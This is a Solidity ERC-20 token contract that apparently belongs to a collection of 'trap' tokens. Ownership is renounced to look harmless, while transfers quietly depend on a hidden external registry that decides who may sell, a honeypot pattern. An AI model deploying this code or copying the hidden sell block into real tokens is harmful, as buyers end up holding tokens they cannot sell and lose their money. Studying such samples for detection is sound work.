// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

interface IRegistry {
    function levelOf(address account) external view returns (uint256);
}

/// Ownerless; who counts as a member is written elsewhere.
contract MemberRegistry is TrapErc20V8 {
    IRegistry private immutable registry;

    constructor(IRegistry registry_) TrapErc20V8("Members", "MBR", 3_600_000 ether) {
        registry = registry_;
        renounceOwnership();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        try registry.levelOf(from) returns (uint256 level) {
            require(level > 0, "not a member");
        } catch {}
        super._transfer(from, to, value);
    }
}
